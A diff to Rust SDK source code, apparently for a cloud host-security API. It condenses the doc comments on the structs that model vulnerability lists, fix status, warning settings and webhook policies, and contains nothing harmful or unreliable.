+    /// `KbNumber`; example: `"KB33425"`
     pub kb_number: Option<String>,
 }
 
@@ -14519,34 +9493,22 @@ pub struct VulEmergentMsgInfo {
 /// Returned in the output of [`DescribeVulFixStatus`](super::DescribeVulFixStatus).
 #[tc_model]
 pub struct VulFixStatusHostInfo {
-    /// `HostName`: a string.
-    ///
-    /// Example: `"性能测试"`
+    /// `HostName`; example: `"性能测试"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.13.45.12"`
+    /// `HostIp`; example: `"10.13.45.12"`
     pub host_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `ModifyTime`; example: `"2021-03-30 19:17:28"`
     pub modify_time: String,
 
-    /// `FailReason`: a string.
-    ///
-    /// Example: `"修复超时"`
+    /// `FailReason`; example: `"修复超时"`
     pub fail_reason: String,
 }
 
@@ -14555,55 +9517,37 @@ pub struct VulFixStatusHostInfo {
 /// Returned in the output of [`DescribeVulFixStatus`](super::DescribeVulFixStatus).
 #[tc_model]
 pub struct VulFixStatusInfo {
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `VulId`; example: `12`
     pub vul_id: u64,
 
-    /// `VulName`: a string.
-    ///
-    /// Example: `"本地提权漏洞"`
+    /// `VulName`; example: `"本地提权漏洞"`
     pub vul_name: String,
 
-    /// `Progress`: an unsigned 64-bit integer.
-    ///
-    /// Example: `80`
+    /// `Progress`; example: `80`
     pub progress: u64,
 
-    /// `HostList`: a list of [`VulFixStatusHostInfo`] objects.
+    /// `HostList`
     pub host_list: Vec<VulFixStatusHostInfo>,
 
-    /// `FailCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FailCnt`; example: `1`
     pub fail_cnt: u64,
 
-    /// `FixSuccessCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `FixSuccessCnt`; example: `0`
     pub fix_success_cnt: u64,
 
-    /// `FixMethod`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `FixMethod`; example: `0`
     pub fix_method: Option<u64>,
 
-    /// `KbId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `KbId`; example: `1`
     pub kb_id: Option<u64>,
 
-    /// `KbNumber`: a string.
-    ///
-    /// Example: `"kb23671"`
+    /// `KbNumber`; example: `"kb23671"`
     pub kb_number: Option<String>,
 
-    /// `KbName`: a string.
-    ///
-    /// Example: `"windows kb23671"`
+    /// `KbName`; example: `"windows kb23671"`
     pub kb_name: Option<String>,
 
-    /// `PreKbList`: a list of strings.
+    /// `PreKbList`
     pub pre_kb_list: Option<Vec<String>>,
 }
 
@@ -14612,54 +9556,34 @@ pub struct VulFixStatusInfo {
 /// Returned in the output of [`DescribeVulFixStatus`](super::DescribeVulFixStatus).
 #[tc_model]
 pub struct VulFixStatusSnapshotInfo {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
+    /// `Quuid`; example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
     pub quuid: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"修护主机"`
+    /// `HostName`; example: `"修护主机"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"145.12.3.12"`
+    /// `HostIp`; example: `"145.12.3.12"`
     pub host_ip: String,
 
-    /// `SnapshotName`: a string.
-    ///
-    /// Example: `"2021-03-01备份"`
+    /// `SnapshotName`; example: `"2021-03-01备份"`
     pub snapshot_name: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-11 18:15:17"`
+    /// `ModifyTime`; example: `"2021-03-11 18:15:17"`
     pub modify_time: String,
 
-    /// `SnapshotId`: a string.
-    ///
-    /// Example: `"snp-dhusa**"`
+    /// `SnapshotId`; example: `"snp-dhusa**"`
     pub snapshot_id: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Id`; example: `12`
     pub id: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `FailReason`: a string.
-    ///
-    /// Example: `"获取授权失败"`
+    /// `FailReason`; example: `"获取授权失败"`
     pub fail_reason: String,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: Option<String>,
 }
 
@@ -14668,22 +9592,16 @@ pub struct VulFixStatusSnapshotInfo {
 /// Returned in the output of [`DescribeVulHostTop`](super::DescribeVulHostTop).
 #[tc_model]
 pub struct VulHostTopInfo {
-    /// `HostName`: a string.
-    ///
-    /// Example: `"内存马评测"`
+    /// `HostName`; example: `"内存马评测"`
     pub host_name: String,
 
-    /// `VulLevelList`: a list of [`VulLevelCountInfo`] objects.
+    /// `VulLevelList`
     pub vul_level_list: Vec<VulLevelCountInfo>,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"8efa1586-c390-4131-ad90-19c1ff64****"`
+    /// `Quuid`; example: `"8efa1586-c390-4131-ad90-19c1ff64****"`
     pub quuid: String,
 
-    /// `Score`: an unsigned 64-bit integer.
-    ///
-    /// Example: `511`
+    /// `Score`; example: `511`
     pub score: u64,
 }
 
@@ -14692,64 +9610,36 @@ pub struct VulHostTopInfo {
 /// Sent in the input of [`AddVulIgnoreRule`](super::AddVulIgnoreRule).
 #[tc_model]
 pub struct VulIgnoreRule {
-    /// `VulID`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulID`; example: `1`
     #[tc(rename = "VulID")]
     pub vul_id: u64,
 
-    /// `AssetScopeType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `AssetScopeType`; example: `0`
     pub asset_scope_type: u64,
 
-    /// `IncludeQuuidList`: a list of strings.
-    /// Always sent in responses.
-    ///
-    /// Example: `["195ce807-fake-4e7a-aed7-9dca2b62b864"]`
+    /// `IncludeQuuidList`, always sent in responses; example: `["195ce807-fake-4e7a-aed7-9dca2b62b864"]`
     pub include_quuid_list: Option<Vec<String>>,
 
-    /// `ExcludeQuuidList`: a list of strings.
-    /// Always sent in responses.
-    ///
-    /// Example: `["195ce807-fake-4e7a-aed7-9dca2b62b864"]`
+    /// `ExcludeQuuidList`, always sent in responses; example: `["195ce807-fake-4e7a-aed7-9dca2b62b864"]`
     pub exclude_quuid_list: Option<Vec<String>>,
 
-    /// `Remark`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"不想关注该漏洞"`
+    /// `Remark`, always sent in responses; example: `"不想关注该漏洞"`
     pub remark: Option<String>,
 
-    /// `ConfigHostCount`: an unsigned 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `ConfigHostCount`, always sent in responses; example: `1`
     pub config_host_count: Option<u64>,
 
-    /// `AffectedHostCount`: an unsigned 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `AffectedHostCount`, always sent in responses; example: `1`
     pub affected_host_count: Option<u64>,
 
-    /// `VulName`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"Apache"`
+    /// `VulName`, always sent in responses; example: `"Apache"`
     pub vul_name: Option<String>,
 
-    /// `RuleID`: an unsigned 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `101`
+    /// `RuleID`, always sent in responses; example: `101`
     #[tc(rename = "RuleID")]
     pub rule_id: Option<u64>,
 
-    /// `ModifyTime`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"2020-12-01 00:00:00"`
+    /// `ModifyTime`, always sent in responses; example: `"2020-12-01 00:00:00"`
     pub modify_time: Option<String>,
 }
 
@@ -14758,14 +9648,10 @@ pub struct VulIgnoreRule {
 /// Returned in the output of [`DescribeVulCveIdInfo`](super::DescribeVulCveIdInfo).
 #[tc_model]
 pub struct VulInfoByCveId {
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `VulId`; example: `12`
     pub vul_id: u64,
 
-    /// `FixSwitch`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FixSwitch`; example: `1`
     pub fix_switch: u64,
 }
 
@@ -14774,47 +9660,31 @@ pub struct VulInfoByCveId {
 /// Returned in the output of [`DescribeCanFixVulMachine`](super::DescribeCanFixVulMachine).
 #[tc_model]
 pub struct VulInfoHostInfo {
-    /// `HostName`: a string.
-    ///
-    /// Example: `"性能测试"`
+    /// `HostName`; example: `"性能测试"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.13.45.12"`
+    /// `HostIp`; example: `"10.13.45.12"`
     pub host_ip: String,
 
-    /// `Tags`: a list of strings.
+    /// `Tags`
     pub tags: Vec<String>,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `IsSupportAutoFix`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsSupportAutoFix`; example: `1`
     pub is_support_auto_fix: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"ins_dhuahsd"`
+    /// `InstanceId`; example: `"ins_dhuahsd"`
     pub instance_id: String,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: Option<String>,
 
-    /// `AgentStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AgentStatus`; example: `1`
     pub agent_status: Option<u64>,
 }
 
@@ -14823,154 +9693,94 @@ pub struct VulInfoHostInfo {
 /// Returned in the output of [`DescribeVulList`](super::DescribeVulList).
 #[tc_model]
 pub struct VulInfoList {
-    /// `Ids`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Ids`; example: `"1"`
     pub ids: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"git注入"`
+    /// `Name`; example: `"git注入"`
     pub name: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulId`; example: `1`
     pub vul_id: u64,
 
-    /// `PublishTime`: a string.
-    ///
-    /// Example: `"2021-03-16 16:21:51"`
+    /// `PublishTime`; example: `"2021-03-16 16:21:51"`
     pub publish_time: String,
 
-    /// `LastTime`: a string.
-    ///
-    /// Example: `"2021-03-16 16:21:51"`
+    /// `LastTime`; example: `"2021-03-16 16:21:51"`
     pub last_time: String,
 
-    /// `HostCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `HostCount`; example: `2`
     pub host_count: u64,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `From`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `From`; example: `0`
     pub from: u64,
 
-    /// `Descript`: a string.
-    ///
-    /// Example: `"漏洞描述"`
+    /// `Descript`; example: `"漏洞描述"`
     pub descript: String,
 
-    /// `PublishTimeWisteria`: a string.
-    ///
-    /// Example: `"废弃字段"`
+    /// `PublishTimeWisteria`; example: `"废弃字段"`
     pub publish_time_wisteria: String,
 
-    /// `NameWisteria`: a string.
-    ///
-    /// Example: `"废弃字段"`
+    /// `NameWisteria`; example: `"废弃字段"`
     pub name_wisteria: String,
 
-    /// `DescriptWisteria`: a string.
-    ///
-    /// Example: `"废弃字段"`
+    /// `DescriptWisteria`; example: `"废弃字段"`
     pub descript_wisteria: String,
 
-    /// `StatusStr`: a string.
-    ///
-    /// Example: `"1,2"`
+    /// `StatusStr`; example: `"1,2"`
     pub status_str: String,
 
-    /// `CveId`: a string.
-    ///
-    /// Example: `"CVE-2021-3156"`
+    /// `CveId`; example: `"CVE-2021-3156"`
     pub cve_id: String,
 
-    /// `CvssScore`: a floating-point number.
-    ///
-    /// Example: `9.9`
+    /// `CvssScore`; example: `9.9`
     pub cvss_score: f64,
 
-    /// `Labels`: a string.
-    ///
-    /// Example: `"标签1,标签2"`
+    /// `Labels`; example: `"标签1,标签2"`
     pub labels: String,
 
-    /// `FixSwitch`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FixSwitch`; example: `1`
     pub fix_switch: u64,
 
-    /// `TaskId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `TaskId`; example: `12`
     pub task_id: u64,
 
-    /// `IsSupportDefense`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsSupportDefense`; example: `1`
     pub is_support_defense: u64,
 
-    /// `DefenseAttackCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `DefenseAttackCount`; example: `12`
     pub defense_attack_count: u64,
 
-    /// `FirstAppearTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `FirstAppearTime`; example: `"2021-03-30 19:17:28"`
     pub first_appear_time: String,
 
-    /// `VulCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulCategory`; example: `1`
     pub vul_category: u64,
 
-    /// `AttackLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AttackLevel`; example: `1`
     pub attack_level: u64,
 
-    /// `FixNoNeedRestart`: a boolean.
-    ///
-    /// Example: `true`
+    /// `FixNoNeedRestart`; example: `true`
     pub fix_no_need_restart: bool,
 
-    /// `Method`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Method`; example: `1`
     pub method: u64,
 
-    /// `VulFixSwitch`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulFixSwitch`; example: `1`
     pub vul_fix_switch: Option<u64>,
 
-    /// `LatestFixTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `LatestFixTime`; example: `"2021-03-30 19:17:28"`
     pub latest_fix_time: Option<String>,
 
-    /// `RaspOpenNodeCount`: a signed 64-bit integer.
-    ///
-    /// Example: `23`
+    /// `RaspOpenNodeCount`; example: `23`
     pub rasp_open_node_count: Option<i64>,
 
-    /// `RaspClosedNodeCount`: a signed 64-bit integer.
-    ///
-    /// Example: `24`
+    /// `RaspClosedNodeCount`; example: `24`
     pub rasp_closed_node_count: Option<i64>,
 }
 
@@ -14979,14 +9789,10 @@ pub struct VulInfoList {
 /// Returned in the output of [`DescribeVulHostTop`](super::DescribeVulHostTop).
 #[tc_model]
 pub struct VulLevelCountInfo {
-    /// `VulLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `3`
+    /// `VulLevel`; example: `3`
     pub vul_level: u64,
 
-    /// `VulCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `VulCount`; example: `10`
     pub vul_count: u64,
 }
 
@@ -14995,14 +9801,10 @@ pub struct VulLevelCountInfo {
 /// Returned in the output of [`DescribeVulLevelCount`](super::DescribeVulLevelCount).
 #[tc_model]
 pub struct VulLevelInfo {
-    /// `VulLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulLevel`; example: `1`
     pub vul_level: u64,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `Count`; example: `100`
     pub count: u64,
 }
 
@@ -15011,14 +9813,10 @@ pub struct VulLevelInfo {
 /// Returned in the output of [`DescribeVulOverview`](super::DescribeVulOverview).
 #[tc_model]
 pub struct VulOverview {
-    /// `TotalCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `TotalCount`; example: `12`
     pub total_count: u64,
 
-    /// `TodayCount`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `TodayCount`; example: `0`
     pub today_count: i64,
 }
 
@@ -15027,54 +9825,34 @@ pub struct VulOverview {
 /// Returned in the output of [`DescribeHotVulTop`](super::DescribeHotVulTop) and [`DescribeVulStoreList`](super::DescribeVulStoreList).
 #[tc_model]
 pub struct VulStoreListInfo {
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulId`; example: `1`
     pub vul_id: u64,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"漏洞"`
+    /// `Name`; example: `"漏洞"`
     pub name: String,
 
-    /// `CveId`: a string.
-    ///
-    /// Example: `"cve_**"`
+    /// `CveId`; example: `"cve_**"`
     pub cve_id: String,
 
-    /// `VulCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulCategory`; example: `1`
     pub vul_category: u64,
 
-    /// `PublishDate`: a string.
-    ///
-    /// Example: `"11"`
+    /// `PublishDate`; example: `"11"`
     pub publish_date: String,
 
-    /// `Method`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Method`; example: `0`
     pub method: u64,
 
-    /// `AttackLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AttackLevel`; example: `1`
     pub attack_level: u64,
 
-    /// `FixSwitch`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FixSwitch`; example: `1`
     pub fix_switch: u64,
 
-    /// `SupportDefense`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SupportDefense`; example: `1`
     pub support_defense: u64,
 }
 
@@ -15083,24 +9861,16 @@ pub struct VulStoreListInfo {
 /// Returned in the output of [`DescribeVulTop`](super::DescribeVulTop).
 #[tc_model]
 pub struct VulTopInfo {
-    /// `VulName`: a string.
-    ///
-    /// Example: `"Apache HTTP/2 协议拒绝服务漏洞(CVE-2023-44****"`
+    /// `VulName`; example: `"Apache HTTP/2 协议拒绝服务漏洞(CVE-2023-44****"`
     pub vul_name: String,
 
-    /// `VulLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `3`
+    /// `VulLevel`; example: `3`
     pub vul_level: u64,
 
-    /// `VulCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `82`
+    /// `VulCount`; example: `82`
     pub vul_count: u64,
 
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `104994`
+    /// `VulId`; example: `104994`
     pub vul_id: u64,
 }
 
@@ -15109,49 +9879,31 @@ pub struct VulTopInfo {
 /// Returned in the output of [`DescribeWarningList`](super::DescribeWarningList).
 #[tc_model]
 pub struct WarningInfoObj {
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 
-    /// `DisablePhoneWarning`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DisablePhoneWarning`; example: `1`
     pub disable_phone_warning: u64,
 
-    /// `BeginTime`: a string.
-    ///
-    /// Example: `"00:00"`
+    /// `BeginTime`; example: `"00:00"`
     pub begin_time: String,
 
-    /// `EndTime`: a string.
-    ///
-    /// Example: `"00:00"`
+    /// `EndTime`; example: `"00:00"`
     pub end_time: String,
 
-    /// `TimeZone`: a string.
-    ///
-    /// Example: `"Asia/Shanghai"`
+    /// `TimeZone`; example: `"Asia/Shanghai"`
     pub time_zone: String,
 
-    /// `ControlBit`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ControlBit`; example: `0`
     pub control_bit: u64,
 
-    /// `ControlBits`: a string.
-    ///
-    /// Example: `"0"`
+    /// `ControlBits`; example: `"0"`
     pub control_bits: String,
 
-    /// `HostRange`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `HostRange`; example: `0`
     pub host_range: i64,
 
-    /// `Count`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Count`; example: `0`
     pub count: i64,
 }
 
@@ -15160,39 +9912,25 @@ pub struct WarningInfoObj {
 /// Sent in the input of [`ModifyWarningSetting`](super::ModifyWarningSetting).
 #[tc_model]
 pub struct WarningObject {
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Type`; example: `2`
     pub r#type: Option<u64>,
 
-    /// `DisablePhoneWarning`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DisablePhoneWarning`; example: `1`
     pub disable_phone_warning: Option<u64>,
 
-    /// `BeginTime`: a string.
-    ///
-    /// Example: `"19:17:28"`
+    /// `BeginTime`; example: `"19:17:28"`
     pub begin_time: Option<String>,
 
-    /// `EndTime`: a string.
-    ///
-    /// Example: `"19:17:28"`
+    /// `EndTime`; example: `"19:17:28"`
     pub end_time: Option<String>,
 
-    /// `ControlBits`: a string.
-    ///
-    /// Example: `"101"`
+    /// `ControlBits`; example: `"101"`
     pub control_bits: Option<String>,
 
-    /// `HostRange`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `HostRange`; example: `0`
     pub host_range: Option<i64>,
 
-    /// `Unit`: a string.
-    ///
-    /// Example: `"minute"`
+    /// `Unit`; example: `"minute"`
     pub unit: Option<String>,
 }
 
@@ -15202,16 +9940,10 @@ pub struct WarningObject {
 /// Returned in the output of [`DescribeWebHookPolicy`](super::DescribeWebHookPolicy).
 #[tc_model]
 pub struct WebHookCustomField {
-    /// `Key`: a string.
-    /// Required in requests.
-    ///
-    /// Example: `"key_name"`
+    /// `Key`, required in requests; example: `"key_name"`
     pub key: Option<String>,
 
-    /// `Value`: a string.
-    /// Required in requests.
-    ///
-    /// Example: `"vaule_mark"`
+    /// `Value`, required in requests; example: `"vaule_mark"`
     pub value: Option<String>,
 }
 
@@ -15221,14 +9953,10 @@ pub struct WebHookCustomField {
 /// Returned in the output of [`DescribeWebHookPolicy`](super::DescribeWebHookPolicy), [`DescribeWebHookRule`](super::DescribeWebHookRule) and [`DescribeWebHookRules`](super::DescribeWebHookRules).
 #[tc_model]
 pub struct WebHookEventKv {
-    /// `Type`: a signed 64-bit integer.
-    ///
-    /// Example: `6`
+    /// `Type`; example: `6`
     pub r#type: i64,
 
-    /// `ControlBit`: a string.
-    ///
-    /// Example: `"100"`
+    /// `ControlBit`; example: `"100"`
     pub control_bit: String,
 }
 
@@ -15238,14 +9966,10 @@ pub struct WebHookEventKv {
 /// Returned in the output of [`DescribeWebHookPolicy`](super::DescribeWebHookPolicy), [`DescribeWebHookRule`](super::DescribeWebHookRule) and [`DescribeWebHookRules`](super::DescribeWebHookRules).
 #[tc_model]
 pub struct WebHookHostLabel {
-    /// `Type`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: i64,
 
-    /// `Values`: a list of strings.
-    ///
-    /// Example: `["tag_value"]`
+    /// `Values`; example: `["tag_value"]`
     pub values: Vec<String>,
 }
 
@@ -15254,56 +9978,40 @@ pub struct WebHookHostLabel {
 /// Returned in the output of [`DescribeWebHookPolicy`](super::DescribeWebHookPolicy).
 #[tc_model]
 pub struct WebHookPolicy {
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `19`
+    /// `Id`; example: `19`
     pub id: Option<i64>,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"adate****"`
+    /// `Name`; example: `"adate****"`
     pub name: Option<String>,
 
-    /// `Events`: a list of [`WebHookEventKv`] objects.
+    /// `Events`
     pub events: Option<Vec<WebHookEventKv>>,
 
-    /// `HostLabels`: a list of [`WebHookHostLabel`] objects.
+    /// `HostLabels`
     pub host_labels: Option<Vec<WebHookHostLabel>>,
 
-    /// `Receivers`: a list of [`WebHookReceiver`] objects.
+    /// `Receivers`
     pub receivers: Option<Vec<WebHookReceiver>>,
 
-    /// `Format`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Format`; example: `0`
     pub format: Option<i64>,
 
-    /// `CustomFields`: a list of [`WebHookCustomField`] objects.
+    /// `CustomFields`
     pub custom_fields: Option<Vec<WebHookCustomField>>,
 
-    /// `IsDisabled`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `IsDisabled`; example: `0`
     pub is_disabled: Option<i64>,
 
-    /// `Quuids`: a list of strings.
-    ///
-    /// Example: `["e7dd60a3-6d90-42a1-af72-cfe40dfc****"]`
+    /// `Quuids`; example: `["e7dd60a3-6d90-42a1-af72-cfe40dfc****"]`
     pub quuids: Option<Vec<String>>,
 
-    /// `HostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `HostCount`; example: `2`
     pub host_count: Option<i64>,
 
-    /// `ExcludedQuuids`: a list of strings.
-    ///
-    /// Example: `["93b5fa8f-f5bc-4cf9-8253-d2739e5aa484"]`
+    /// `ExcludedQuuids`; example: `["93b5fa8f-f5bc-4cf9-8253-d2739e5aa484"]`
     pub excluded_quuids: Option<Vec<String>>,
 
-    /// `MsgLanguage`: a string.
-    ///
-    /// Example: `"zh"`
+    /// `MsgLanguage`; example: `"zh"`
     pub msg_language: Option<String>,
 }
 
@@ -15313,50 +10021,32 @@ pub struct WebHookPolicy {
 /// Returned in the output of [`DescribeWebHookPolicy`](super::DescribeWebHookPolicy) and [`DescribeWebHookReceiver`](super::DescribeWebHookReceiver).
 #[tc_model]
 pub struct WebHookReceiver {
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: Option<i64>,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"告警webhook"`
+    /// `Name`; example: `"告警webhook"`
     pub name: Option<String>,
 
-    /// `Addr`: a string.
-    ///
-    /// Example: `"www.webhook.com"`
+    /// `Addr`; example: `"www.webhook.com"`
     pub addr: Option<String>,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Type`; example: `0`
     pub r#type: Option<u64>,
 
-    /// `SCFRegion`: a string.
-    ///
-    /// Example: `"ap-guangzhou"`
+    /// `SCFRegion`; example: `"ap-guangzhou"`
     #[tc(rename = "SCFRegion")]
     pub scf_region: Option<String>,
 
-    /// `Namespace`: a string.
-    ///
-    /// Example: `"ns"`
+    /// `Namespace`; example: `"ns"`
     pub namespace: Option<String>,
 
-    /// `FunctionName`: a string.
-    ///
-    /// Example: `"fn"`
+    /// `FunctionName`; example: `"fn"`
     pub function_name: Option<String>,
 
-    /// `FunctionVersion`: a string.
-    ///
-    /// Example: `"latest"`
+    /// `FunctionVersion`; example: `"latest"`
     pub function_version: Option<String>,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"alias"`
+    /// `Alias`; example: `"alias"`
     pub alias: Option<String>,
 }
 
@@ -15365,19 +10055,13 @@ pub struct WebHookReceiver {
 /// Returned in the output of [`DescribeWebHookReceiverUsage`](super::DescribeWebHookReceiverUsage).
 #[tc_model]
 pub struct WebHookReceiverUsage {
-    /// `ReceiverId`: a signed 64-bit integer.
-    ///
-    /// Example: `20`
+    /// `ReceiverId`; example: `20`
     pub receiver_id: Option<i64>,
 
-    /// `ReceiverName`: a string.
-    ///
-    /// Example: `"name******"`
+    /// `ReceiverName`; example: `"name******"`
     pub receiver_name: Option<String>,
 
-    /// `PolicyName`: a string.
-    ///
-    /// Example: `"adates****"`
+    /// `PolicyName`; example: `"adates****"`
     pub policy_name: Option<String>,
 }
 
@@ -15387,47 +10071,28 @@ pub struct WebHookReceiverUsage {
 /// Returned in the output of [`DescribeWebHookRule`](super::DescribeWebHookRule).
 #[tc_model]
 pub struct WebHookRuleDetail {
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"rule_name"`
+    /// `RuleName`; example: `"rule_name"`
     pub rule_name: String,
 
-    /// `HookAddr`: a string.
+    /// `HookAddr`
     pub hook_addr: String,
 
-    /// `RuleItems`: a list of [`WebHookEventKv`] objects.
-    ///
-    /// Example: `[{"ControlBit":"01111","Type":11}]`
+    /// `RuleItems`; example: `[{"ControlBit":"01111","Type":11}]`
     pub rule_items: Vec<WebHookEventKv>,
 
-    /// `RuleId`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `10001`
+    /// `RuleId`, always sent in responses; example: `10001`
     pub rule_id: Option<i64>,
 
-    /// `RuleRemark`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"备注"`
+    /// `RuleRemark`, always sent in responses; example: `"备注"`
     pub rule_remark: Option<String>,
 
-    /// `HostLabels`: a list of [`WebHookHostLabel`] objects.
-    /// Always sent in responses.
-    ///
-    /// Example: `[{"Type":4,"Values":[]}]`
+    /// `HostLabels`, always sent in responses; example: `[{"Type":4,"Values":[]}]`
     pub host_labels: Option<Vec<WebHookHostLabel>>,
 
-    /// `HostIds`: a list of strings.
-    /// Always sent in responses.
-    ///
-    /// Example: `["747c393e-f771-47ca-af1a-cc36b88f107a"]`
+    /// `HostIds`, always sent in responses; example: `["747c393e-f771-47ca-af1a-cc36b88f107a"]`
     pub host_ids: Option<Vec<String>>,
 
-    /// `IsDisabled`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `IsDisabled`, always sent in responses; example: `1`
     pub is_disabled: Option<i64>,
 }
 
